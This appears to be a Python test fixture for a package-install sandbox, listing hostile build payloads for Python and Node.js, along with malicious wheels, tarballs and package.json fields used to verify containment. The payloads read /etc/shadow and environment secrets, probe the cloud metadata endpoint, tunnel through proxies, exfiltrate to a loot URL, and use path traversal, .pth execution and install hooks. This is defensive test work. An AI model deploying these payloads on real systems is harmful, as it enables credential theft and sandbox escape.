"""Hostile packages: attacks that run during installation, and packages with hostile content.

Texts are formatted with the values of a trial: ``home`` (the data folder), ``canary`` (a port on
the machine's loopback that must not be reached), ``index`` (the registry, which may be reached).
An attack in Python is the body of a function that returns its loot; one for Node.js is a program
that writes its loot to ``loot.txt`` beside it. An attack without loot has failed.
"""

from __future__ import annotations

import io
import tarfile
import zipfile
from collections.abc import Callable

SECRET = "CANARY-7f3a9c"

_ASK = """
import os, urllib.request
def ask(url, proxied=True):
    handler = urllib.request.ProxyHandler(None if proxied else {{}})
    opener = urllib.request.build_opener(handler)
    return opener.open(url, timeout=10).read()
"""


def each(*urls: str) -> str:
    return (
        _ASK
        + f"""
got = []
for url in {list(urls)!r}:
    for proxied in (True, False):
        try: got.append(ask(url, proxied))
        except OSError: pass
assert got, "nothing"
return got
"""
    )


# --- run by the build of a source package, where builds are allowed

PYTHON_BUILDS: dict[str, str] = {
    "shadow": "return open('/etc/shadow').read()",
    "root_home": "import os\nreturn os.listdir('/root')",
    "database": "return open('{home}/state.db').read()",
    "data_folder": (  # the folder of wheels is mounted at its own path
        "import os\ngot = set(os.listdir('{home}')) - {{'wheels'}}\n"
        "assert got, 'nothing'\nreturn got"
    ),
    "other_cache": "return open('{home}/tool-caches/01ARZ3NDEKTSV4RRFFQ69G5FAW-UV/kept').read()",
    "write_other_cache": (
        "open('{home}/tool-caches/01ARZ3NDEKTSV4RRFFQ69G5FAW-UV/kept', 'w').write('x')\n"
        "return 'written'"
    ),
    "environment": (
        "import os\ngot = [v for v in os.environ.items() if '" + SECRET + "' in str(v)]\n"
        "got += [n for n in os.environ if n.startswith(('FYKE', 'PROXY_AUTH', 'ChromeWs'))]\n"
        "assert got, 'nothing'\nreturn got"
    ),
    "processes": """
import os
got = []
for pid in filter(str.isdigit, os.listdir('/proc')):
    try: text = open('/proc/' + pid + '/environ').read() + open('/proc/' + pid + '/cmdline').read()
    except OSError: continue
    if '"""
    + SECRET
    + """' in text or '{home}/state' in text: got.append(text)
assert got, 'nothing'
return got
""",
    "process_1": "return open('/proc/1/root/etc/shadow').read()",
    "loopback": each("http://127.0.0.1:{canary}/", "http://localhost:{canary}/"),
    "odd_names": each(
        "http://2130706433:{canary}/",
        "http://127.1:{canary}/",
        "http://0x7f000001:{canary}/",
        "http://0:{canary}/",
        "http://[::1]:{canary}/",
        "http://[::ffff:127.0.0.1]:{canary}/",
    ),
    "metadata": each(
        "http://169.254.169.254/latest/meta-data/",
        "http://[fd00:ec2::254]/latest/",
        "http://100.100.100.200/latest/",
    ),
    "other_hosts": each("http://192.0.2.1/", "http://example.invalid/", "https://203.0.113.80/"),
    "connect_method": """
import os, socket, base64
from urllib.parse import urlsplit
proxy = urlsplit(os.environ['https_proxy'])
token = base64.b64encode((proxy.username + ':' + proxy.password).encode()).decode()
line = socket.create_connection((proxy.hostname, proxy.port), 10)
line.sendall(('CONNECT 127.0.0.1:{canary} HTTP/1.1\\r\\nProxy-Authorization: Basic '
    + token + '\\r\\n\\r\\n').encode())
answer = line.recv(100)
assert b' 200 ' in answer, answer
return answer
""",
    "socks": """
import os, socket
from urllib.parse import urlsplit
proxy = urlsplit(os.environ['https_proxy'])
user, word = proxy.username.encode(), proxy.password.encode()
line = socket.create_connection((proxy.hostname, proxy.port), 10)
line.sendall(b'\\x05\\x01\\x02'); line.recv(2)
line.sendall(bytes([1, len(user)]) + user + bytes([len(word)]) + word); line.recv(2)
line.sendall(b'\\x05\\x01\\x00\\x01\\x7f\\x00\\x00\\x01' + ({canary}).to_bytes(2, 'big'))
answer = line.recv(10)
assert answer[1:2] == b'\\x00', answer
return answer
""",
    "names": "import socket\nreturn socket.gethostbyname('registry.example.invalid')",
    "udp": (
        "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "s.settimeout(2)\ns.sendto(b'x', ('192.0.2.53', 53))\nreturn s.recv(9)"
    ),
    "packets": "import socket\nreturn str(socket.socket(socket.AF_PACKET, socket.SOCK_RAW))",
    "launcher": """
import socket
s = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
s.connect('{home}/run/launcher.sock')
return 'connected'
""",
    "system": "open('/usr/bin/python3', 'r+b').write(b'x')\nreturn 'written'",
    "uv_itself": "open('/run/fyke/uv', 'r+b').write(b'x')\nreturn 'written'",
    "mount": "import ctypes\nassert ctypes.CDLL(None).unshare(0x10000000) == 0\nreturn 'unshared'",
    "keyring": (
        "import ctypes\nassert ctypes.CDLL(None).syscall(248, b'user', b'x', b'y', 1, -4) > 0\n"
        "return 'stored'"
    ),
    "device": "import os\nos.mknod('/work/out/disk', 0o60666, 0xfe00)\nreturn 'made'",
    "hard_link": "import os\nos.link('/etc/passwd', '/work/linked')\nreturn 'linked'",
    "daemon": """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.closerange(0, 100)
        while True:
            try: open('/work/late.txt', 'w').write('x'); open('/cache/late.txt', 'w').write('x')
            except OSError: pass
            time.sleep(0.05)
    os._exit(0)
raise PermissionError('it is dead by the time that the test looks')
""",
    "forks": """
import os, signal, time
for number in range(3000):
    try:
        if os.fork() == 0:
            os.closerange(0, 100)
            time.sleep(600)
    except OSError: raise PermissionError(number)
return 'no limit'
""",
    "cache_of_uv": """
import os
for above, folders, names in os.walk('/cache'):
    for name in names:
        path = os.path.join(above, name)
        try: open(path, 'ab').write(b'# poisoned')
        except OSError: pass
raise PermissionError('a build may change the cache of its own account')
""",
    "send_home": """
import os, urllib.request
text = ' '.join(str(item) for item in os.environ.items())
for path in ('/etc/shadow', '{home}/state.db', '/proc/1/environ', '/run/secrets'):
    try: text += open(path).read()
    except OSError: pass
urllib.request.urlopen('{index}/loot', data=text.encode()[:100000], timeout=10)
raise PermissionError('a build may send what it can read to the index')
""",
}

# --- as above, but the installation must fail, with a message that matches the second text

PYTHON_REFUSED: dict[str, tuple[str, str]] = {
    "link_out": (
        "import os\nos.makedirs('/work/out', exist_ok=True)\n"
        "os.symlink('/etc/shadow', '/work/out/link')",
        "link or device 'link'",
    ),
    "link_home": (
        "import os\nos.makedirs('/work/out', exist_ok=True)\n"
        "os.symlink('{home}', '/work/out/home')",
        "link or device 'home'",
    ),
    "other_out": (
        "import os\nif os.path.isdir('/work/out'): os.rename('/work/out', '/work/o')\n"
        "os.symlink('{home}', '/work/out')",
        "could not be installed",
    ),
    "fifo": (
        "import os\nos.makedirs('/work/out', exist_ok=True)\nos.mkfifo('/work/out/pipe')",
        "link or device 'pipe'",
    ),
    "sparse": (
        "import os\nos.makedirs('/work/out', exist_ok=True)\n"
        "for n in range(40):\n    open(f'/work/out/s{{n}}', 'w').truncate(60 * 2**20)",
        "more than",
    ),
    "deep": (
        "import os\nos.makedirs('/work/out', exist_ok=True)\nos.chdir('/work/out')\n"
        "for _ in range(200):\n    os.mkdir('d'); os.chdir('d')",
        "too deep|more than",
    ),
    "fill": (
        "import os\nfor n in range(10**6):\n    open(f'/work/f{{n}}', 'wb').write(bytes(2**20))"
        "\n    if n > 300: import time; time.sleep(600)",
        "more than",
    ),
    "memory": ("a = []\nwhile True: a.append(bytearray(2**24))", "memory"),
    "hang": ("import time\ntime.sleep(600)", "within .* seconds"),
    "kill_uv": ("import os\nos.kill(os.getppid(), 9)", "could not be installed"),
}


# --- wheels: none of their code may run where the operator does not allow it


def _zip(entries: dict[str, str | bytes], modes: dict[str, int] | None = None) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries.items():
            info = zipfile.ZipInfo(name)
            info.compress_type = zipfile.ZIP_DEFLATED
            info.external_attr = (modes or {}).get(name, 0o100644) << 16
            archive.writestr(info, content)
    return out.getvalue()


def _bad_wheel(name: str, extra: dict[str, str | bytes], modes: dict[str, int]) -> bytes:
    info = f"{name}-1.0.dist-info"
    entries: dict[str, str | bytes] = {
        f"{name}.py": "",
        f"{info}/METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n",
        f"{info}/WHEEL": "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
        f"{info}/RECORD": "",
    }
    return _zip(entries | extra, modes)


TOUCH = "import os\nos.system('touch {mark}')\n"

WHEELS: dict[str, Callable[[str], bytes]] = {
    "pth": lambda name: _bad_wheel(name, {"evil.pth": TOUCH.replace("\n", "; ")[:-2]}, {}),
    "customize": lambda name: _bad_wheel(
        name, {"sitecustomize.py": TOUCH, "usercustomize.py": TOUCH, "compileall.py": TOUCH}, {}
    ),
    "stdlib": lambda name: _bad_wheel(name, {"os.py": TOUCH, "encodings/__init__.py": TOUCH}, {}),
    "entry_point": lambda name: _bad_wheel(
        name,
        {f"{name}-1.0.dist-info/entry_points.txt": f"[console_scripts]\npython = {name}:x\n"},
        {},
    ),
    "script": lambda name: _bad_wheel(
        name, {f"{name}-1.0.data/scripts/python3": "#!/bin/sh\ntouch {mark}\n"}, {}
    ),
    "parent": lambda name: _bad_wheel(name, {"../../../escaped.txt": "x"}, {}),
    "absolute": lambda name: _bad_wheel(name, {"/work/escaped.txt": "x"}, {}),
    "data_parent": lambda name: _bad_wheel(
        name, {f"{name}-1.0.data/data/../../../../escaped.txt": "x"}, {}
    ),
    "link": lambda name: _bad_wheel(name, {"link": "/etc/shadow"}, {"link": 0o120777}),
    "setuid": lambda name: _bad_wheel(name, {"tool": "#!/bin/sh\n"}, {"tool": 0o104755}),
    "clobber": lambda name: _bad_wheel(name, {"grpc/__init__.py": TOUCH, "protobuf.py": TOUCH}, {}),
    "bomb": lambda name: _bad_wheel(name, {f"b{n}": bytes(2**26) for n in range(8)}, {}),
}

# --- npm

_NODE_LOOT = """
const fs = require('fs'), http = require('http');
const save = (text) => fs.writeFileSync(__dirname + '/loot.txt', String(text));
save('denied');
"""


def _node(body: str) -> str:
    return (
        f"{_NODE_LOOT}try {{{{ {body} }}}} catch (error) {{{{ save('denied: ' + error.code) }}}}\n"
    )


def _node_ask(host: str, port: str, path: str = "/") -> str:
    return (
        _NODE_LOOT
        + f"""
const proxy = new URL(process.env.http_proxy);
const auth = 'Basic ' + Buffer.from(proxy.username + ':' + proxy.password).toString('base64');
const url = 'http://{host}:{port}{path}';
const through = http.get({{{{ host: proxy.hostname, port: proxy.port, path: url,
    headers: {{{{ 'Proxy-Authorization': auth }}}} }}}},
    (answer) => {{{{ save(answer.statusCode < 400 ? 'LOOT' : 'denied: ' + answer.statusCode);
        answer.resume() }}}});
through.on('error', () => null);
http.get(url, () => save('LOOT')).on('error', () => null);
"""
    )


NODE_BUILDS: dict[str, str] = {
    "shadow": _node("save(fs.readFileSync('/etc/shadow'))"),
    "database": _node("save(fs.readFileSync('{home}/state.db'))"),
    "data_folder": _node("save(fs.readdirSync('{home}'))"),
    "environment": _node(
        f"const text = JSON.stringify(process.env); if (text.includes('{SECRET}')) save(text)"
    ),
    "other_cache": _node("fs.writeFileSync('{home}/tool-caches/x', 'x'); save('LOOT')"),
    "loopback": _node_ask("127.0.0.1", "{canary}"),
    "metadata": _node_ask("169.254.169.254", "80", "/latest/meta-data/"),
    "other_hosts": _node_ask("192.0.2.1", "80"),
    "system": _node("fs.writeFileSync('/usr/bin/x', 'x'); save('LOOT')"),
    "own_link": _node("fs.symlinkSync('/etc/shadow', __dirname + '/link')"),
    "daemon": _node(
        "require('child_process').spawn('/bin/sh', ['-c', "
        "'while true; do echo x > /work/late.txt; sleep 0.05; done'], "
        "{{ detached: true, stdio: 'ignore' }}).unref()"
    ),
}


def tar(entries: list[tuple[str, bytes | str, str]]) -> bytes:
    """A package for npm; an entry is (kind, content or target, path)."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as archive:
        for kind, content, path in entries:
            info = tarfile.TarInfo(path)
            if kind == "file":
                data = content if isinstance(content, bytes) else content.encode()
                info.size = len(data)
                archive.addfile(info, io.BytesIO(data))
                continue
            info.type = {
                "link": tarfile.SYMTYPE,
                "hard": tarfile.LNKTYPE,
                "fifo": tarfile.FIFOTYPE,
            }[kind]
            info.linkname = str(content)
            archive.addfile(info)
    return out.getvalue()


NODE_TARBALLS: dict[str, list[tuple[str, bytes | str, str]]] = {
    "link": [("link", "/etc/shadow", "package/link")],
    "link_through": [("link", "/work", "package/way"), ("file", "x", "package/way/escaped.txt")],
    "hard": [("hard", "/etc/passwd", "package/passwd")],
    "fifo": [("fifo", "", "package/pipe")],
    "parent": [("file", "x", "package/../../../escaped.txt")],
    "absolute": [("file", "x", "/work/escaped.txt")],
    "bin_links": [("link", "/etc/shadow", "package/node_modules/.bin/x")],
    "npmrc": [("file", "registry=http://127.0.0.1:{canary}/\n", "package/.npmrc")],
    "gyp": [("file", "{{'targets': [{{'target_name': 'x'}}]}}", "package/binding.gyp")],
}

# fields of package.json; nothing that these packages name may be fetched or run
NODE_PACKAGES: dict[str, dict[str, object]] = {
    "hooks": {
        "scripts": dict.fromkeys(
            ("preinstall", "install", "postinstall", "prepare", "prepublish"), "touch {mark}"
        )
    },
    "git": {"dependencies": {"x": "git+http://127.0.0.1:{canary}/x.git"}},
    "git_ssh": {"dependencies": {"x": "git+ssh://git@127.0.0.1:{canary}/x.git"}},
    "address": {"dependencies": {"x": "http://127.0.0.1:{canary}/x.tgz"}},
    "file": {"dependencies": {"x": "file:../../../etc"}},
    "folder": {"dependencies": {"x": "file:/etc"}},
    "bin": {"bin": {"../../../escaped": "index.js", "node": "index.js"}},
    "workspaces": {"workspaces": ["../../*"]},
}
